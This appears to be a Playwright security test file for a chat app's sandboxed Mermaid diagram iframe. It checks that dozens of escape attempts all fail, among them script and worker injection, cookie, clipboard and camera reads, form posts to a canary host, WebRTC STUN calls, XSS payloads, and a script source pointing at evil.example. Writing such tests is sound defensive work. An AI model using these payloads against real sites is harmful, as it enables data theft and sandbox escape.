    'new Promise((y,n)=>{const s=document.createElement("script");s.onload=y;s.onerror=n;s.src="AT";document.body.append(s)})',
  module: 'import("AT")',
  worker:
    'new Promise((y,n)=>{const w=new Worker(URL.createObjectURL(new Blob(["fetch(\'AT\').then(()=>postMessage(1))"])));w.onmessage=y;w.onerror=n})',
  'shared worker': 'new Promise((y,n)=>{const w=new SharedWorker("AT");w.onerror=n})',
  'service worker': 'navigator.serviceWorker.register("/assets/x.js")',
  style:
    'document.body.insertAdjacentHTML("beforeend","<style>@import url(AT);b{background:url(AT)}</style><b>x</b>");throw 0',
  font: 'new FontFace("x","url(AT)").load()',
  links:
    'for(const rel of["preload","prefetch","preconnect","dns-prefetch","modulepreload","stylesheet","icon","manifest"]){const l=document.createElement("link");l.rel=rel;l.as="script";l.href="AT";document.head.append(l)}throw 0',
  markup:
    'document.body.insertAdjacentHTML("beforeend","<img src=AT><video src=AT poster=AT></video><object data=AT></object><embed src=AT><svg><image href=AT /><use href=AT#x /></svg><iframe src=AT></iframe>");throw 0',
  'frame of no address':
    'const f=document.createElement("iframe");document.body.append(f);f.contentWindow.fetch("AT").then(()=>document.title="out");throw 0',
  'frame of a document':
    'const f=document.createElement("iframe");f.srcdoc="<img src=AT><script>fetch(\'AT\')<\\/script>";document.body.append(f);throw 0',
  form: 'document.body.insertAdjacentHTML("beforeend","<form id=f action=AT method=post><input name=x></form>");document.getElementById("f").submit();throw 0',
  window: 'if(open("AT"))return;throw 0',
  'link to the top':
    'const a=document.createElement("a");a.href="AT";a.target="_top";a.ping="AT";document.body.append(a);a.click();throw 0',
  download:
    'const a=document.createElement("a");a.href="data:text/plain,x";a.download="x.exe";document.body.append(a);a.click();throw 0',
  top: 'top.location.href="AT"',
  parent: 'return parent.document.title',
  'parent’s functions': 'return parent.sluice.request("app.info",{})',
  opener: 'return opener.document',
  'stored things': 'return localStorage.length',
  cookies: 'return document.cookie',
  databases: 'return new Promise((y,n)=>{const r=indexedDB.open("x");r.onsuccess=y;r.onerror=n})',
  caches: 'return caches.open("x")',
  clipboard: 'return navigator.clipboard.readText()',
  camera: 'return navigator.mediaDevices.getUserMedia({video:true})',
  place: 'return new Promise((y,n)=>navigator.geolocation.getCurrentPosition(y,n))',
  dialogs: 'alert(1);if(confirm("x")||prompt("x"))return;throw 0',
  'full screen': 'return document.body.requestFullscreen()',
  'words to the page':
    'for(const m of[null,1,"x",{},{kind:"drawn",height:1e9},{kind:"drawn",height:"9"},{kind:"failed",message:"<img src=AT onerror=hacked=1>".repeat(1e4)},{kind:"__proto__"},{source:"x",dark:1}])for(let i=0;i<200;i++)parent.postMessage(m,"*");throw 0',
  'another place': 'location.href="AT"',
};

test('[E6-07] a script that has taken over the frame of a diagram gets out of it by no way', async ({ app }) => {
  test.setTimeout(120_000);
  await connect(app);
  await app.page.reload();
  const { wrong } = watch(app.page);
  app.page.on('download', (download) => wrong.push(`download ${download.url()}`));
  app.expectConsoleError(/./);
  count('ways out of a frame that was taken over', Object.keys(FROM_WITHIN).length);
  await say(app, { id: 'frame', text: '```mermaid\nflowchart LR\n A-->B\n```' });
  await expect(app.page.locator('[data-drawn="true"]')).toBeVisible();
  for (const [name, code] of Object.entries(FROM_WITHIN)) {
    const frame = app.page.frames().find((each) => each.parentFrame() !== null);
    if (frame === undefined) throw new Error(`The frame has gone before: ${name}`);
    const source = code.replaceAll('AT', `${canary.address}/hit/frame`);
    const body = /\b(return|throw)\b|^for|^const/.test(source) ? source : `return ${source}`;
    const got = await Promise.race([
      frame.evaluate(
        (words) =>
          Promise.resolve()
            .then(() => (new Function(words) as () => unknown)())
            .then(
              (value) => `got ${typeof value}`,
              () => 'nothing',
            ),
        body,
      ),
      new Promise<string>((resolve) => AbortSignal.timeout(1500).addEventListener('abort', () => resolve('nothing'))),
    ]).catch(() => 'nothing');
    if (name !== 'top' && name !== 'another place') expect.soft(got, name).toBe('nothing');
    expect.soft(canary.hits, name).toEqual([]);
  }
  await app.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  expect(canary.hits).toEqual([]);
  // Whether a request left is the canary's to say: the browser tells of those that it stops itself, too.
  expect(wrong.filter((each) => !each.startsWith('request '))).toEqual([]);
  expect(await findTraces(app.page)).toEqual([]);
  const height = await app.page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
  expect(height).toBeLessThan(10_000);
  await say(app, { id: 'after', text: 'Still here.' });
  await expect(app.page.getByTestId('message-assistant').last()).toContainText('Still here.');
});

/** Makes a peer connection that asks a STUN server; `realm` is where its constructor is taken from. Resolves after a while. */
const CALL_PEER = `(port, realm) => new Promise((resolve) => {
  try {
    const line = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
    line.createDataChannel('x');
    line.createOffer().then((offer) => line.setLocalDescription(offer)).catch(() => resolve('refused'));
    line.addEventListener('icegatheringstatechange', () => line.iceGatheringState === 'complete' && resolve('gathered'));
    AbortSignal.timeout(3000).addEventListener('abort', () => resolve('waited'));
  } catch { resolve('refused'); }
})`;

test('[E6-07] [E1-01] a peer connection reaches nobody: not from the page, a frame that was taken over, or a frame in it', async ({
  app,
}) => {
  test.skip(app.host === 'electron', 'There the contents have a policy of their own, asserted on the stub.');
  let packets = 0;
  const stun = createSocket('udp4').on('message', () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  try {
    const { port } = stun.address();
    // A page of somebody else reaches it, so it can be reached.
    canary.serve('/peer.html', '<!doctype html><title>peer</title>');
    const control = await app.page.context().newPage();
    await control.goto(`${canary.address}/peer.html`);
    await control.evaluate(`(${CALL_PEER})(${port}, window)`);
    await control.close();
    expect(packets).toBeGreaterThan(0);
    packets = 0;
    await connect(app);
    await app.page.reload();
    app.expectConsoleError(/./);
    await say(app, { id: 'frame', text: '```mermaid\nflowchart LR\n A-->B\n```' });
    await expect(app.page.locator('[data-drawn="true"]')).toBeVisible();
    const frame = app.page.frames().find((each) => each.parentFrame() !== null);
    if (frame === undefined) throw new Error('There is no frame.');
    const inFrame = `(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow; })()`;
    // A fourth place, a frame without an address in the page itself, is left out: there Chromium 156 ends the page instead.
    count('peer connections', 3);
    await app.page.evaluate(`(${CALL_PEER})(${port}, window)`);
    await frame.evaluate(`(${CALL_PEER})(${port}, window)`);
    await frame.evaluate(`(${CALL_PEER})(${port}, ${inFrame})`);
    expect(packets).toBe(0);
  } finally {
    stun.close();
  }
});

test('[E1-01] text never becomes markup or a script: the browser itself refuses it', async ({ app }) => {
  app.expectConsoleError(/Trusted(HTML|Script|Type)|Content Security [Pp]olicy|require-trusted-types/);
  const refused = await app.page.evaluate(async () => {
    // A task of the page's own: what a debugger evaluates may use eval, whatever the policy says.
    await new Promise((resolve) => setTimeout(resolve));
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (document.createElement('div').innerHTML = '<img src=x>'),
      outerHTML: () => (document.body.appendChild(document.createElement('i')).outerHTML = '<b></b>'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<i></i>'),
      srcdoc: () => (document.createElement('iframe').srcdoc = '<p>x</p>'),
      'script source': () => (document.createElement('script').src = 'https://evil.example/x.js'),
      'script text': () => (document.createElement('script').text = 'window.hacked = 1'),
      parser: () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
      fragment: () => document.createRange().createContextualFragment('<p>x</p>'),
      write: () => document.write('<p>x</p>'),
      worker: () => new Worker('data:text/javascript,1'),
      'worker of media': () => new Worker('/media/x.js'),
      eval: () => (0, eval)('1') as unknown,
      function: () => (new Function('return 1') as () => unknown)(),
      'another policy': () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('mine', {
          createHTML: (markup: string) => markup,
        }),
    };
    return Object.entries(attempts).map(([name, attempt]) => {
      try {
        attempt();
        return `${name} worked`;
      } catch {
        return name;
      }
    });
  });
  count('places that make markup or scripts of text', refused.length);
  expect(refused.filter((each) => each.endsWith('worked'))).toEqual([]);
});
